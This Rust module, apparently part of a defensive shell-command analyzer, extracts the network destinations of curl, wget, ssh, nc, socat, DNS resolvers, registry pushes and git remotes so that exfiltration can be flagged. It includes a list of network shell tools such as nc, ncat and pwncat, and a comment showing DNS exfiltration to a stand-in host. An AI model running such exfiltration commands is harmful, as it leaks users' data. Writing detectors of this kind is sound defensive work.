//! Where a shell line sends data, read per program from the operand or option that names the
//! destination (issue 11, adversary round 2): the URL of `curl`/`wget`, the host of `ssh`,
//! `scp`, `sftp`, `rsync` (`host:path`, `host::module`, `rsync://`), `nc`, `socat`, the name
//! `dig`/`nslookup`/`host`/`getent hosts` resolve, the registry of `docker`/`podman`/`oras`/
//! `helm` pushes and logins, the URL or remote name of `git push`/`fetch`/`pull`, and the
//! remote a line sets for later (`git remote add`, `set-url`, `git config remote.X.url`,
//! `git -c remote.X.url=…`).
//!
//! A destination the analysis cannot resolve is never taken as harmless: one computed at run
//! time (a command substitution, a decoded string, a variable the line assigns from one, or
//! `${a}${b}` of unknown parts) is [`Dest::Computed`]; one the line does not show (a curl
//! config file, a wget input list, URLs fed by `xargs`) is [`Dest::Unseen`]. A call that
//! makes a repository, gist or snippet public is [`Dest::Public`]: everyone is its destination.
//!
//! Single-label host names (`ssh prod`, `scp f build:`) are not destinations here: they
//! resolve only through the user's own SSH config, hosts file or local network search domain,
//! which an outside attacker does not control.

use super::{Analysis, SimpleCommand};
use crate::provenance::{self, kind, HostCtx, Val};

/// One destination of a shell line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Dest {
    /// Hosts and URLs resolved from the line, in the extractor's canonical form (a URL and its
    /// host, or a host alone).
    Known(Vec<Val>),
    /// A destination computed at run time: `program`, the word as analysed (`$(…)` marks a
    /// substitution), and whether it only uses variables of the environment (never assigned
    /// in the line, no substitution): the user's own settings (`curl "$API_URL/v1"`).
    Computed {
        /// The program that sends.
        program: String,
        /// The destination word as the analysis reads it.
        word: String,
        /// True when only environment variables the line never assigns compute it.
        env_only: bool,
    },
    /// A destination the line does not show: `program` and where it is read from.
    Unseen {
        /// The program that sends.
        program: String,
        /// What holds the destination (`curl -K cfg.txt`, `xargs input`).
        from: String,
    },
    /// A git remote given by name (`git push NAME`), not set in the line; `""` for the
    /// default (the branch's upstream).
    Remote(String),
    /// A call that makes something public (`gh repo edit --visibility public`).
    Public(String),
}

/// A git remote the line sets: its name (`*` for a rewrite of any remote's URL, an
/// `insteadOf` key), and its URL as written (`None` when computed at run time).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RemoteSet {
    /// The remote's name, or `*`.
    pub name: String,
    /// The URL, or `None` when computed at run time.
    pub url: Option<String>,
}

/// What [`Analysis::destinations`] finds.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Dests {
    /// The destinations, in the order the commands appear.
    pub dests: Vec<Dest>,
    /// The git remotes the line sets, for the calls after it.
    pub remote_sets: Vec<RemoteSet>,
    /// True when the line writes a repository's `.git/config` directly (a redirection, `tee`,
    /// `sed -i`, `git config -f`): its remotes are no longer known to be the user's.
    pub writes_git_config: bool,
}

/// Most destinations read from one line.
const MAX_DESTS: usize = 256;

/// True when `w` holds text computed at run time: a substitution, a process substitution, a
/// parameter expansion left unresolved, a backquote.
pub(crate) fn is_dynamic(w: &str) -> bool {
    if w.contains(super::words::SUB_MARK) || w.contains(super::words::PROC_MARK) || w.contains('`')
    {
        return true;
    }
    let b = w.as_bytes();
    b.iter().enumerate().any(|(i, &c)| {
        c == b'$'
            && b.get(i + 1).is_some_and(|n| {
                n.is_ascii_alphanumeric() || matches!(n, b'_' | b'{' | b'@' | b'*')
            })
    })
}

/// The variable names a word expands (`$NAME`, `${NAME…}`).
fn var_names(w: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let b = w.as_bytes();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'$' {
            let start = if b.get(i + 1) == Some(&b'{') {
                i + 2
            } else {
                i + 1
            };
            let mut j = start;
            while j < b.len() && (b[j].is_ascii_alphanumeric() || b[j] == b'_') {
                j += 1;
            }
            if j > start {
                out.push(&w[start..j]);
            }
            i = j.max(i + 1);
        } else {
            i += 1;
        }
    }
    out
}

/// True when `w`'s expansions are only variables the line never assigns (`NAME=`, `for
/// NAME`, `read`, `mapfile`, `printf -v`, `declare`): the user's environment.
fn env_only(w: &str, text: &str) -> bool {
    if w.contains(super::words::SUB_MARK) || w.contains('`') || w.contains(super::words::PROC_MARK)
    {
        return false;
    }
    let names = var_names(w);
    if names.is_empty() {
        return false;
    }
    let reads = [
        "read ",
        "mapfile",
        "readarray",
        "printf -v",
        "declare ",
        "local ",
        "getopts",
    ]
    .iter()
    .any(|r| text.contains(r));
    !reads
        && names.iter().all(|n| {
            !n.is_empty()
                && !n.as_bytes()[0].is_ascii_digit()
                && !n.bytes().any(|b| b.is_ascii_lowercase())
                && !text.contains(&format!("{n}="))
                && !text.contains(&format!("{n}+="))
                && !text.contains(&format!("for {n} "))
        })
}

/// The host part of a destination word: after a scheme, before the path; after `user@`;
/// before `:port`, `:path` or `::module`.
fn host_part(w: &str) -> &str {
    let rest = w.split_once("://").map_or(w, |(_, r)| r);
    let auth = rest.split(['/', '?', '#']).next().unwrap_or(rest);
    // `user@host`: the last `@` (curl reads `a@b@c` as user `a@b`).
    let host = auth.rsplit_once('@').map_or(auth, |(_, h)| h);
    if host.starts_with('[') {
        return host
            .split(']')
            .next()
            .map_or(host, |h| &h[..h.len().min(host.len())]);
    }
    host.split(':').next().unwrap_or(host)
}

/// The values a destination word names, or `None` when it names none the extractor reads
/// (a single-label host, a local path).
fn known(w: &str) -> Option<Vec<Val>> {
    let w = w.trim();
    if w.is_empty() {
        return None;
    }
    let mut out: Vec<Val> = Vec::new();
    if w.contains("://") {
        let lower = w.to_ascii_lowercase();
        let url = normalize_url(&lower);
        out.extend(
            provenance::extract(&url)
                .into_iter()
                .filter(|v| matches!(v.kind, kind::URL | kind::HOST | kind::DOMAIN)),
        );
        // A scheme the extractor does not read (`rsync://`, `oci://`, `s3://`): its host.
        if !out.iter().any(|v| v.kind == kind::HOST) {
            push_host(&mut out, host_part(&url));
        }
    } else {
        push_host(&mut out, host_part(w));
    }
    (!out.is_empty()).then_some(out)
}

/// The hosts and URLs a destination word names (a URL, `user@host:path`, a host), in the
/// extractor's canonical form; empty for a single-label host or a computed word.
pub fn destination_values(w: &str) -> Vec<Val> {
    if is_dynamic(host_part(w)) {
        return Vec::new();
    }
    known(w).unwrap_or_default()
}

/// Adds `h` (and its domain) when it is a host with at least two labels or an address.
fn push_host(out: &mut Vec<Val>, h: &str) {
    let h = percent_decode(h);
    if let Some(c) = provenance::canonical_host(&h, HostCtx::Url) {
        let ip = c.contains(':') || c.bytes().all(|b| b.is_ascii_digit() || b == b'.');
        if !ip {
            let d = provenance::domain_of(&c);
            if d != c {
                out.push(Val {
                    kind: kind::DOMAIN,
                    text: d,
                });
            }
        }
        out.push(Val {
            kind: kind::HOST,
            text: c,
        });
    }
}

/// `%XX` escapes decoded (as curl and browsers do in a host); an invalid escape stays.
pub(crate) fn percent_decode(s: &str) -> String {
    if !s.contains('%') {
        return s.to_string();
    }
    let b = s.as_bytes();
    let mut out: Vec<u8> = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%' && i + 2 < b.len() {
            let hex = |c: u8| (c as char).to_digit(16);
            if let (Some(a), Some(c)) = (hex(b[i + 1]), hex(b[i + 2])) {
                out.push((a * 16 + c) as u8);
                i += 3;
                continue;
            }
        }
        out.push(b[i]);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// A URL with its authority read the way curl and browsers read it: percent escapes in the
/// host decoded, a backslash ending the authority for browsers but not for curl (both hosts
/// kept: `http://a.com\@b.com/` gives `http://a.com/…` and `http://b.com/…`).
fn normalize_url(url: &str) -> String {
    let Some((scheme, rest)) = url.split_once("://") else {
        return url.to_string();
    };
    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let (auth, tail) = rest.split_at(end);
    let mut forms: Vec<String> = Vec::new();
    for a in [Some(auth), auth.split_once('\\').map(|(a, _)| a)]
        .into_iter()
        .flatten()
    {
        let (user, hostport) = match a.rsplit_once('@') {
            Some((u, h)) => (Some(u), h),
            None => (None, a),
        };
        let host = percent_decode(hostport);
        let mut f = format!("{scheme}://");
        if let Some(u) = user {
            f.push_str(&u.replace('\\', "%5c"));
            f.push('@');
        }
        f.push_str(&host.replace('\\', "/"));
        f.push_str(tail);
        forms.push(f);
    }
    forms.join(" ")
}

/// Short options of `curl` that take a value (the next word, or the rest of the cluster).
const CURL_SHORT_VALUE: &str = "AbcCdDeEFHKmoOPQrtTuUwxXyYzh";
/// Long options of `curl` that take the next word as their value.
const CURL_LONG_VALUE: crate::strtab::StrTable = crate::str_table![
    "--data",
    "--data-raw",
    "--data-binary",
    "--data-ascii",
    "--data-urlencode",
    "--json",
    "--form",
    "--form-string",
    "--header",
    "--proxy-header",
    "--user",
    "--request",
    "--output",
    "--output-dir",
    "--upload-file",
    "--user-agent",
    "--referer",
    "--cookie",
    "--cookie-jar",
    "--cacert",
    "--capath",
    "--cert",
    "--key",
    "--max-time",
    "--connect-timeout",
    "--retry",
    "--retry-delay",
    "--retry-max-time",
    "--range",
    "--continue-at",
    "--write-out",
    "--proxy",
    "--proxy-user",
    "--resolve",
    "--connect-to",
    "--interface",
    "--limit-rate",
    "--max-filesize",
    "--dump-header",
    "--trace",
    "--trace-ascii",
    "--stderr",
    "--oauth2-bearer",
    "--aws-sigv4",
    "--variable",
    "--expand-url",
    "--config",
    "--url",
    "--unix-socket",
    "--abstract-unix-socket",
    "--dns-servers",
    "--happy-eyeballs-timeout-ms",
    "--keepalive-time",
    "--local-port",
    "--mail-from",
    "--mail-rcpt",
    "--mail-auth",
    "--netrc-file",
    "--pinnedpubkey",
    "--preproxy",
    "--quote",
    "--time-cond",
    "--tls-max",
    "--ciphers",
    "--engine",
];

/// Long options of `wget` that take the next word as their value.
const WGET_LONG_VALUE: crate::strtab::StrTable = crate::str_table![
    "--output-document",
    "--output-file",
    "--append-output",
    "--directory-prefix",
    "--user-agent",
    "--header",
    "--post-data",
    "--post-file",
    "--body-data",
    "--body-file",
    "--method",
    "--user",
    "--password",
    "--http-user",
    "--http-password",
    "--input-file",
    "--base",
    "--tries",
    "--timeout",
    "--wait",
    "--execute",
    "--referer",
    "--load-cookies",
    "--save-cookies",
    "--ca-certificate",
    "--certificate",
    "--private-key",
    "--domains",
    "--exclude-domains",
    "--accept",
    "--reject",
    "--level",
    "--quota",
    "--limit-rate",
    "--config",
];

/// Options of any sending program whose value is a destination (`npm publish --registry`,
/// `twine upload --repository-url`, `cargo publish --index`).
const DEST_OPTIONS: crate::strtab::StrTable = crate::str_table![
    "--registry",
    "--index",
    "--repository-url",
    "--url",
    "--server",
    "--endpoint",
    "--endpoint-url",
    "--upload-url",
    "--api-url",
    "--base-url",
];

/// Programs that resolve a name (the name is sent to the resolver, labels and all).
const RESOLVERS: crate::strtab::StrTable = crate::str_table![
    "dig",
    "nslookup",
    "host",
    "drill",
    "delv",
    "kdig",
    "resolvectl",
    "ping",
    "ping6",
    "traceroute",
    "tracepath",
    "mtr",
    "whois",
    "nping",
    "hping3",
];

/// Container and artifact tools whose `push`/`login`/`copy` name a registry.
const REGISTRY_TOOLS: crate::strtab::StrTable = crate::str_table![
    "docker", "podman", "nerdctl", "buildah", "oras", "crane", "skopeo", "helm", "regctl",
];

/// Raw network programs whose first operand is the peer's host.
const RAW_PEERS: crate::strtab::StrTable = crate::str_table![
    "nc", "ncat", "netcat", "telnet", "cryptcat", "pwncat", "ftp", "tftp", "lftp",
];

impl Analysis {
    /// True when a destination the line names carries data in its host labels (DNS
    /// exfiltration: `nslookup <encoded>.evil.example`, `dig`, `host`, `getent hosts`, a URL's
    /// subdomain): [`crate::provenance::host_carries_data`].
    pub fn destinations_carry_data(&self) -> bool {
        self.all_commands().iter().any(|c| {
            let mut d = Dests::default();
            command_dests(c, "", &mut d);
            d.dests.iter().any(|x| match x {
                Dest::Known(v) => v
                    .iter()
                    .any(|v| v.kind == kind::HOST && provenance::host_carries_data(&v.text)),
                _ => false,
            })
        })
    }

    /// The destinations of the line's commands (nested lines included), per program. `text`
    /// is the whole command line as written (to tell a variable the line assigns from one of
    /// the environment).
    pub fn destinations(&self, text: &str) -> Dests {
        let mut out = Dests::default();
        for c in self.all_commands() {
            if out.dests.len() >= MAX_DESTS {
                break;
            }
            command_dests(c, text, &mut out);
        }
        out
    }
}

/// Adds a destination word: known values, computed, or nothing (a single-label host).
fn add_word(out: &mut Dests, program: &str, w: &str, text: &str) {
    if is_dynamic(host_part(w)) || (is_dynamic(w) && !w.contains("://") && !w.contains('/')) {
        out.dests.push(Dest::Computed {
            program: program.to_string(),
            word: crate::text::cap(w, 200).to_string(),
            env_only: env_only(w, text),
        });
        return;
    }
    if let Some(v) = known(w) {
        out.dests.push(Dest::Known(v));
    }
}

/// The operands of `args` (words not options), skipping option values: `short` lists the
/// short options that take a value, `long` the long ones that take the next word.
fn operands<'a, 'l>(
    args: &'a [String],
    short: &str,
    long: impl crate::strtab::Strs<'l>,
) -> Vec<&'a String> {
    let mut out = Vec::new();
    let mut i = 0;
    let mut after_dd = false;
    while i < args.len() {
        let w = &args[i];
        i += 1;
        if after_dd || !w.starts_with('-') || w == "-" {
            out.push(w);
            continue;
        }
        if w == "--" {
            after_dd = true;
            continue;
        }
        if let Some(l) = w.strip_prefix("--") {
            if !l.contains('=') && long.strs().any(|x| x == w.as_str()) {
                i += 1;
            }
            continue;
        }
        // A short cluster: the first letter that takes a value takes the rest, or the next word.
        let letters = &w[1..];
        if let Some(p) = letters.find(|c: char| short.contains(c)) {
            if p + 1 == letters.len() {
                i += 1;
            }
        }
    }
    out
}

/// The value of option `name` (`-K F`, `-KF`, `--config F`, `--config=F`) in `args`.
fn option_values<'a>(args: &'a [String], short: Option<char>, long: &str) -> Vec<&'a str> {
    let mut out = Vec::new();
    let mut it = args.iter().peekable();
    while let Some(w) = it.next() {
        if w == long {
            if let Some(v) = it.peek() {
                out.push(v.as_str());
            }
        } else if let Some(v) = w.strip_prefix(long).and_then(|r| r.strip_prefix('=')) {
            out.push(v);
        } else if let Some(s) = short {
            if w.starts_with('-') && !w.starts_with("--") && w.len() >= 2 {
                let letters = &w[1..];
                if let Some(p) = letters.find(s) {
                    // Only a cluster of flags before it (`-sK`), not a value (`-o-K`).
                    if letters[..p].chars().all(|c| c.is_ascii_alphabetic()) {
                        let rest = &letters[p + 1..];
                        if rest.is_empty() {
                            if let Some(v) = it.peek() {
                                out.push(v.as_str());
                            }
                        } else {
                            out.push(rest);
                        }
                    }
                }
            }
        }
    }
    out
}

fn info_only(args: &[String]) -> bool {
    args.iter().any(|w| {
        matches!(
            w.as_str(),
            "-V" | "--version" | "-h" | "--help" | "--manual" | "-M"
        )
    })
}

fn command_dests(c: &SimpleCommand, text: &str, out: &mut Dests) {
    let p = c.program.as_str();
    let args = &c.args;
    // `.git/config` written directly.
    if c.redirect_writes
        .iter()
        .chain(c.writes().iter())
        .chain(c.tree_writes().iter().map(|(w, _)| w))
        .any(|w| w.ends_with(".git/config"))
    {
        out.writes_git_config = true;
    }
    // Destination options of any program.
    if c.is_network() {
        for o in DEST_OPTIONS {
            for v in option_values(args, None, o) {
                add_word(out, p, v, text);
            }
        }
    }
    match p {
        "curl" => {
            for f in option_values(args, Some('K'), "--config") {
                out.dests.push(Dest::Unseen {
                    program: p.into(),
                    from: format!("curl -K {}", crate::text::cap(f, 100)),
                });
            }
            let mut urls: Vec<&str> = option_values(args, None, "--url");
            urls.extend(
                operands(args, CURL_SHORT_VALUE, CURL_LONG_VALUE)
                    .into_iter()
                    .map(String::as_str),
            );
            for u in &urls {
                add_word(out, p, u, text);
            }
            if urls.is_empty()
                && !info_only(args)
                && !args
                    .iter()
                    .any(|w| w.starts_with("-K") || w.starts_with("--config"))
            {
                out.dests.push(Dest::Unseen {
                    program: p.into(),
                    from: if c.via_xargs {
                        "URLs xargs reads from its input".into()
                    } else {
                        "no URL in the line (a curl config file or stdin)".into()
                    },
                });
            }
        }
        "wget" | "wget2" | "aria2c" => {
            let short = if p == "aria2c" {
                "idoxsjktmU"
            } else {
                "OoaPUteiBQlARDXIw"
            };
            let mut files = option_values(args, Some('i'), "--input-file");
            if p == "wget" || p == "wget2" {
                files.extend(option_values(args, None, "--config"));
            }
            for f in &files {
                out.dests.push(Dest::Unseen {
                    program: p.into(),
                    from: format!("{p} -i {}", crate::text::cap(f, 100)),
                });
            }
            let urls = operands(args, short, WGET_LONG_VALUE);
            for u in &urls {
                add_word(out, p, u, text);
            }
            if urls.is_empty() && files.is_empty() && !info_only(args) {
                out.dests.push(Dest::Unseen {
                    program: p.into(),
                    from: if c.via_xargs {
                        "URLs xargs reads from its input".into()
                    } else {
                        "no URL in the line".into()
                    },
                });
            }
        }
        "ssh" | "autossh" | "mosh" => {
            let ops = operands(args, "bcDEeFIiJLlmOopQRSWwB", &[]);
            if let Some(h) = ops.first() {
                add_word(out, p, h, text);
            }
            for j in option_values(args, Some('J'), "-J") {
                for h in j.split(',') {
                    add_word(out, p, h, text);
                }
            }
        }
        "sftp" => {
            if let Some(h) = operands(args, "BbcDFiJloPRSs", &[]).first() {
                add_word(out, p, h, text);
            }
        }
        "scp" | "rsync" | "sshfs" => {
            let short = if p == "scp" { "cFiJloPSD" } else { "efBTM" };
            let long: &[&str] = &[
                "--rsh",
                "--rsync-path",
                "--filter",
                "--exclude",
                "--include",
                "--exclude-from",
                "--include-from",
                "--files-from",
                "--password-file",
                "--port",
                "--log-file",
                "--partial-dir",
                "--temp-dir",
                "--compare-dest",
                "--copy-dest",
                "--link-dest",
                "--backup-dir",
                "--suffix",
                "--chmod",
                "--chown",
                "--timeout",
                "--bwlimit",
            ];
            for w in operands(args, short, long) {
                let remote = w.contains("://")
                    || w.split_once(':').is_some_and(|(h, _)| {
                        !h.is_empty() && !h.contains('/') && !h.starts_with('.')
                    });
                if remote {
                    add_word(out, p, w, text);
                }
            }
        }
        "git" => git_dests(c, text, out),
        "gh" | "glab" | "hub" | "tea" => {
            if let Some(what) = makes_public(args) {
                out.dests.push(Dest::Public(format!("{p} {what}")));
            }
        }
        "getent"
            if args.first().is_some_and(|s| {
                matches!(s.as_str(), "hosts" | "ahosts" | "ahostsv4" | "ahostsv6")
            }) =>
        {
            for w in args.iter().skip(1).filter(|w| !w.starts_with('-')) {
                add_word(out, p, w, text);
            }
        }
        "socat" => {
            for w in args.iter().filter(|w| !w.starts_with('-')) {
                let up = w.to_ascii_uppercase();
                let net = ["TCP", "UDP", "SCTP", "OPENSSL", "SSL", "PROXY", "SOCKS"]
                    .iter()
                    .any(|k| up.starts_with(k));
                if let (true, Some((_, rest))) = (net, w.split_once(':')) {
                    let host = rest.rsplit_once(':').map_or(rest, |(h, _)| h);
                    if !host.is_empty() {
                        add_word(out, p, host, text);
                    }
                }
            }
        }
        _ if RESOLVERS.contains(p) => {
            for w in args
                .iter()
                .filter(|w| !w.starts_with('-') && !w.starts_with('+'))
            {
                let w = w.strip_prefix('@').unwrap_or(w);
                if w.contains('.') || is_dynamic(w) {
                    add_word(out, p, w, text);
                }
            }
        }
        _ if RAW_PEERS.contains(p) => {
            if let Some(h) = operands(args, "pswexXiqIOTcP", &[]).first() {
                if h.contains('.') || h.contains(':') || is_dynamic(h) {
                    add_word(out, p, h, text);
                }
            }
        }
        _ if REGISTRY_TOOLS.contains(p) => registry_dests(c, text, out),
        _ => {}
    }
}

/// `gh repo edit --visibility public`, `gh repo create --public`, `gh gist create --public`,
/// `gh api -X PATCH repos/O/R -f private=false` (and `glab`'s `--visibility public`,
/// `--public`): what is made public.
fn makes_public(args: &[String]) -> Option<String> {
    let words: Vec<&str> = args.iter().map(String::as_str).collect();
    let pos = |w: &str| words.iter().position(|x| *x == w);
    let sub = words.iter().take(2).copied().collect::<Vec<_>>().join(" ");
    if words
        .iter()
        .any(|w| w.eq_ignore_ascii_case("--visibility=public"))
        || pos("--visibility").is_some_and(|i| {
            words
                .get(i + 1)
                .is_some_and(|v| v.eq_ignore_ascii_case("public"))
        })
    {
        return Some(format!("{sub} --visibility public"));
    }
    if words.contains(&"--public") || (sub == "gist create" && words.contains(&"-p")) {
        return Some(format!("{sub} --public"));
    }
    if words.first() == Some(&"api") {
        let fields = words.windows(2).filter_map(|w| {
            matches!(w[0], "-f" | "-F" | "--field" | "--raw-field").then_some(w[1])
        });
        for f in fields {
            let f = f.to_ascii_lowercase();
            if matches!(
                f.as_str(),
                "private=false" | "visibility=public" | "public=true"
            ) {
                return Some(format!("api {f}"));
            }
        }
        if words.iter().any(|w| {
            let l = w.to_ascii_lowercase();
            l.contains("\"private\":false")
                || l.contains("\"private\": false")
                || l.contains("\"visibility\":\"public\"")
                || l.contains("\"visibility\": \"public\"")
        }) {
            return Some("api (a body that makes the repository public)".into());
        }
    }
    None
}

/// The registry host of an image or artifact reference (`registry.example:5000/team/app:1`,
/// `oci://host/charts`, `docker://host/img`): its first component when that holds a `.` or
/// a `:` or is `localhost`; Docker Hub references (`library/ubuntu`) have none.
fn registry_of(r: &str) -> Option<&str> {
    let r = r
        .strip_prefix("oci://")
        .or_else(|| r.strip_prefix("docker://"))
        .or_else(|| r.strip_prefix("https://"))
        .or_else(|| r.strip_prefix("http://"))
        .unwrap_or(r);
    let (first, rest) = r.split_once('/')?;
    (!rest.is_empty() && (first.contains('.') || first.contains(':') || first == "localhost"))
        .then_some(first)
}

fn registry_dests(c: &SimpleCommand, text: &str, out: &mut Dests) {
    let p = c.program.as_str();
    let ops: Vec<&String> = operands(
        &c.args,
        "ufpt",
        &[
            "--username",
            "--password",
            "--tag",
            "--file",
            "--platform",
            "--creds",
            "--dest-creds",
            "--src-creds",
            "--authfile",
            "--config",
            "--annotation",
            "--artifact-type",
            "--version",
            "--ca-file",
            "--cert-file",
            "--key-file",
        ],
    );
    let sub = ops.first().map_or("", |s| s.as_str());
    let targets: Vec<&String> = match sub {
        "push" | "copy" | "cp" | "attach" | "tag" | "mirror" => {
            ops.iter().skip(1).copied().collect()
        }
        "login" | "logout" => {
            for h in ops.iter().skip(1) {
                add_word(out, p, h, text);
            }
            return;
        }
        "image" | "manifest" | "buildx" | "artifact" => {
            if ops.get(1).is_some_and(|s| s.as_str() == "push") {
                ops.iter().skip(2).copied().collect()
            } else {
                Vec::new()
            }
        }
        _ => Vec::new(),
    };
    for t in targets {
        if is_dynamic(t.split('/').next().unwrap_or(t)) {
            add_word(out, p, t, text);
        } else if let Some(h) = registry_of(t) {
            add_word(out, p, h, text);
        }
    }
}

/// True for a git operand that is a URL or an scp-like address rather than a remote name.
fn git_url_like(w: &str) -> bool {
    w.contains("://")
        || w.split_once(':').is_some_and(|(h, _)| {
            !h.is_empty() && !h.contains('/') && (h.contains('@') || h.contains('.'))
        })
}

fn git_dests(c: &SimpleCommand, text: &str, out: &mut Dests) {
    let Some((opts, sub_i)) = c.git_parts() else {
        return;
    };
    // `git -c remote.X.url=U`, `-c url.U.insteadOf=…`: remotes set for this command only.
    let mut inline: Vec<(String, String)> = Vec::new();
    for (o, v) in &opts {
        if o != "-c" {
            continue;
        }
        let Some((k, val)) = v.as_deref().and_then(|v| v.split_once('=')) else {
            continue;
        };
        let k = k.to_ascii_lowercase();
        if let Some(name) = remote_url_key(&k) {
            inline.push((name.to_string(), val.to_string()));
        } else if k.starts_with("url.")
            && (k.ends_with(".insteadof") || k.ends_with(".pushinsteadof"))
        {
            let u = &v.as_deref().unwrap_or("")[4..];
            let u = u.rsplit_once('.').map_or(u, |(a, _)| a);
            add_word(out, "git", u, text);
        }
    }
    let Some(i) = sub_i else {
        return;
    };
    let sub = c.args[i].as_str();
    let rest = &c.args[i + 1..];
    let ops: Vec<&String> = operands(
        rest,
        "ojt",
        &[
            "--push-option",
            "--receive-pack",
            "--upload-pack",
            "--exec",
            "--depth",
            "--jobs",
            "--shallow-since",
            "--shallow-exclude",
            "--negotiation-tip",
            "--refmap",
            "--server-option",
            "--origin",
            "--branch",
            "--template",
            "--reference",
            "--separate-git-dir",
            "--config",
            "--filter",
        ],
    );
    match sub {
        "push" | "fetch" | "pull" | "ls-remote" | "send-pack" | "fetch-pack" => {
            let repo = option_values(rest, None, "--repo");
            let target = repo.first().copied().or(ops.first().map(|s| s.as_str()));
            match target {
                Some(t) if git_url_like(t) || is_dynamic(t) => add_word(out, "git", t, text),
                Some(t) => match inline.iter().find(|(n, _)| n == t) {
                    Some((_, u)) => add_word(out, "git", u, text),
                    None => out.dests.push(Dest::Remote(t.to_string())),
                },
                None => out.dests.push(Dest::Remote(String::new())),
            }
        }
        "remote" => {
            let Some(verb) = ops.first().map(|s| s.as_str()) else {
                return;
            };
            let args: Vec<&&String> = ops.iter().skip(1).collect();
            match verb {
                "add" | "set-url" => {
                    if let (Some(name), Some(url)) = (args.first(), args.get(1)) {
                        let url = url.as_str();
                        add_word(out, "git", url, text);
                        out.remote_sets.push(RemoteSet {
                            name: name.to_string(),
                            url: (!is_dynamic(url)).then(|| url.to_string()),
                        });
                    }
                }
                "rename" => {
                    if let Some(new) = args.get(1) {
                        out.remote_sets.push(RemoteSet {
                            name: new.to_string(),
                            url: None,
                        });
                    }
                }
                "update" | "show" | "prune" => {
                    for n in args {
                        out.dests.push(Dest::Remote(n.to_string()));
                    }
                }
                _ => {}
            }
        }
        "config" => {
            // `git config [--local|--global|…] remote.X.url URL`, `--add`, `set`.
            let words: Vec<&str> = ops
                .iter()
                .map(|s| s.as_str())
                .filter(|w| *w != "set")
                .collect();
            if rest.iter().any(|w| w == "-f" || w == "--file") {
                out.writes_git_config = true;
            }
            if let (Some(k), Some(v)) = (words.first(), words.get(1)) {
                let k = k.to_ascii_lowercase();
                if let Some(name) = remote_url_key(&k) {
                    add_word(out, "git", v, text);
                    out.remote_sets.push(RemoteSet {
                        name: name.to_string(),
                        url: (!is_dynamic(v)).then(|| v.to_string()),
                    });
                } else if k.starts_with("url.")
                    && (k.ends_with(".insteadof") || k.ends_with(".pushinsteadof"))
                {
                    let u = &words[0][4..];
                    let u = u.rsplit_once('.').map_or(u, |(a, _)| a);
                    add_word(out, "git", u, text);
                    out.remote_sets.push(RemoteSet {
                        name: "*".into(),
                        url: (!is_dynamic(u)).then(|| u.to_string()),
                    });
                }
            }
        }
        "clone" | "submodule" | "archive" => {
            for w in &ops {
                if git_url_like(w) || (is_dynamic(w) && sub == "clone") {
                    add_word(out, "git", w, text);
                }
            }
            for r in option_values(rest, None, "--remote") {
                if git_url_like(r) || is_dynamic(r) {
                    add_word(out, "git", r, text);
                }
            }
        }
        _ => {}
    }
}

/// `remote.NAME.url` / `remote.NAME.pushurl` (lower-case key): NAME.
fn remote_url_key(k: &str) -> Option<&str> {
    let rest = k.strip_prefix("remote.")?;
    rest.strip_suffix(".url")
        .or_else(|| rest.strip_suffix(".pushurl"))
        .filter(|n| !n.is_empty())
}

/// The URL of remote `name` in a git config file's text (`[remote "NAME"]` then `url =`;
/// `pushurl` wins for a push), or `None`. Reads at most the first 64 KiB.
pub fn config_remote_url(config: &str, name: &str) -> Option<String> {
    let config = crate::text::cap(config, 64 * 1024);
    let mut in_section = false;
    let mut url: Option<String> = None;
    let mut push: Option<String> = None;
    for line in config.lines() {
        let l = line.trim();
        if l.starts_with('[') {
            let inner = l.trim_start_matches('[').split(']').next().unwrap_or("");
            let (sec, sub) = inner.split_once(char::is_whitespace).unwrap_or((inner, ""));
            let sub = sub.trim().trim_matches('"');
            in_section = sec.eq_ignore_ascii_case("remote") && sub == name;
            continue;
        }
        if !in_section {
            continue;
        }
        if let Some((k, v)) = l.split_once('=') {
            let k = k.trim().to_ascii_lowercase();
            let v = v.trim().trim_matches('"').to_string();
            match k.as_str() {
                "url" if url.is_none() => url = Some(v),
                "pushurl" if push.is_none() => push = Some(v),
                _ => {}
            }
        }
    }
    push.or(url)
}

#[cfg(test)]
mod tests;
